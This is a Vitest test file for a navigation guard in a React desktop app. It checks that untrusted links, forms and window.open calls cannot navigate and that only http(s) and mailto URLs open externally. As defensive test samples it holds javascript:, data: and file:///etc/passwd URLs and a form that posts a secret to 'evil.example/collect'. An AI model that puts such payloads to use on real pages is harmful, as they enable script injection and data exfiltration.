// @vitest-environment jsdom
import { act } from 'react';
import { createRoot, type Root } from 'react-dom/client';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { Markdown } from './Markdown';
import { UNTRUSTED_ATTR, guardNavigation } from './navigation';

(globalThis as { IS_REACT_ACT_ENVIRONMENT?: boolean }).IS_REACT_ACT_ENVIRONMENT = true;

const win = window as unknown as Record<string, unknown>;

describe('guardNavigation', () => {
  let unguard: (() => void) | null = null;
  let nativeOpen: ReturnType<typeof vi.fn>;
  let realOpen: Window['open'] | undefined;
  let open: ReturnType<typeof vi.fn>;
  let roots: Root[] = [];
  // Whether the event was cancelled by the time it left the window (read before jsdom would
  // try to navigate, which it cannot: the listener cancels afterwards to keep its log quiet).
  const leftCancelled = new Map<Event, boolean>();
  const record = (e: Event) => {
    leftCancelled.set(e, e.defaultPrevented);
    e.preventDefault();
  };

  beforeEach(() => {
    realOpen = window.open.bind(window);
    nativeOpen = vi.fn();
    window.open = nativeOpen;
    open = vi.fn();
    win.runtime = { BrowserOpenURL: open };
    unguard = guardNavigation(window);
    window.addEventListener('click', record);
    window.addEventListener('auxclick', record);
    window.addEventListener('submit', record);
  });

  afterEach(() => {
    act(() => {
      for (const r of roots) r.unmount();
    });
    roots = [];
    unguard?.();
    window.removeEventListener('click', record);
    window.removeEventListener('auxclick', record);
    window.removeEventListener('submit', record);
    if (realOpen) window.open = realOpen;
    document.body.innerHTML = '';
    delete win.runtime;
    leftCancelled.clear();
  });

  function fire<E extends Event>(target: Element, ev: E): E {
    act(() => {
      target.dispatchEvent(ev);
    });
    return ev;
  }
  const click = (el: Element, init: MouseEventInit = {}) => fire(el, new MouseEvent('click', { bubbles: true, cancelable: true, ...init }));
  const submit = (form: Element) => fire(form, new Event('submit', { bubbles: true, cancelable: true }));

  function html(markup: string): HTMLElement {
    const div = document.createElement('div');
    div.innerHTML = markup;
    document.body.append(div);
    return div;
  }

  it('stops links and image-map areas anywhere on the page and opens only http(s) in the system browser', () => {
    const page = html(
      '<a href="https://example.org/a"><span>inside</span></a><map name="m"><area href="https://example.org/area"></map>' +
        '<area href="javascript:alert(1)"><area href="data:text/html,x"><area href="file:///etc/passwd"><a href="/relative">r</a>' +
        '<svg><a href="https://example.org/svg"><text>s</text></a></svg>',
    );
    const targets = [
      page.querySelector('a span'),
      ...Array.from(page.querySelectorAll('area')),
      page.querySelector('a[href="/relative"]'),
      page.querySelector('svg text'),
    ].filter((e): e is Element => e !== null);
    expect(targets).toHaveLength(7);
    const events = targets.map((t) => click(t, { ctrlKey: t.tagName === 'AREA' }));
    expect(events.map((e) => leftCancelled.get(e))).toEqual(targets.map(() => true));
    expect(open.mock.calls).toEqual([['https://example.org/a'], ['https://example.org/area'], ['https://example.org/svg']]);
    expect(nativeOpen).not.toHaveBeenCalled();
  });

  it('opens a link in rendered markdown exactly once', () => {
    const el = html('');
    const root = createRoot(el);
    roots.push(root);
    act(() => {
      root.render(<Markdown source={'[a](https://example.org/a) <map name="m"><area href="https://example.org/b"></map>'} />);
    });
    for (const link of Array.from(el.querySelectorAll('a, area'))) click(link);
    expect(open.mock.calls).toEqual([['https://example.org/a'], ['https://example.org/b']]);
  });

  it("lets the app's own Blob download through", () => {
    const a = html('<a download="report.md" href="blob:http://127.0.0.1/0b5e">x</a>').querySelector('a')!;
    expect(leftCancelled.get(click(a))).toBe(false);
    expect(open).not.toHaveBeenCalled();
  });

  it('cancels a submit from untrusted content even when propagation stops, and leaves app forms to their handlers', () => {
    const box = html(`<div ${UNTRUSTED_ATTR}><form action="https://evil.example/collect"><input name="q" value="secret"></form></div><form id="app"></form><form id="plain"></form>`);
    const evil = box.querySelector('form')!;
    evil.addEventListener('submit', (e) => e.stopPropagation());
    const ev = submit(evil);
    expect(ev.defaultPrevented).toBe(true);

    const app = box.querySelector('#app')!;
    const handled = vi.fn((e: Event) => {
      expect(e.defaultPrevented).toBe(false); // the app's handler runs first, as React's would
      e.preventDefault();
    });
    app.addEventListener('submit', handled);
    submit(app);
    expect(handled).toHaveBeenCalledOnce();

    // A form whose handler forgot to cancel is cancelled after it (the window listener runs last).
    const plain = box.querySelector('#plain')!;
    const late = vi.fn();
    plain.addEventListener('submit', late);
    window.removeEventListener('submit', record);
    const pe = submit(plain);
    expect(late).toHaveBeenCalledOnce();
    expect(pe.defaultPrevented).toBe(true);
    expect(open).not.toHaveBeenCalled();
  });

  it('makes window.open open only http(s) and mailto, in the system browser, and return no window', () => {
    for (const url of ['javascript:alert(1)', 'data:text/html,x', 'file:///etc/passwd', '/relative', '']) {
      expect(window.open(url, '_self')).toBeNull();
    }
    expect(window.open('https://example.org/w', '_self')).toBeNull();
    expect(window.open(new URL('mailto:someone@example.org'))).toBeNull();
    expect(open.mock.calls).toEqual([['https://example.org/w'], ['mailto:someone@example.org']]);
    expect(nativeOpen).not.toHaveBeenCalled();

    // Without a runtime (a plain dev server) the browser opens it, in a new tab without an opener.
    delete win.runtime;
    window.open('https://example.org/dev');
    window.open('javascript:alert(1)');
    expect(nativeOpen.mock.calls).toEqual([['https://example.org/dev', '_blank', 'noopener,noreferrer']]);
  });

  it('removes itself', () => {
    unguard?.();
    unguard = null;
    window.open('javascript:alert(1)', '_self');
    expect(nativeOpen.mock.calls).toEqual([['javascript:alert(1)', '_self']]);
    const a = html('<a href="https://example.org/a">a</a>').querySelector('a')!;
    expect(leftCancelled.get(click(a))).toBe(false);
    expect(open).not.toHaveBeenCalled();
  });
});
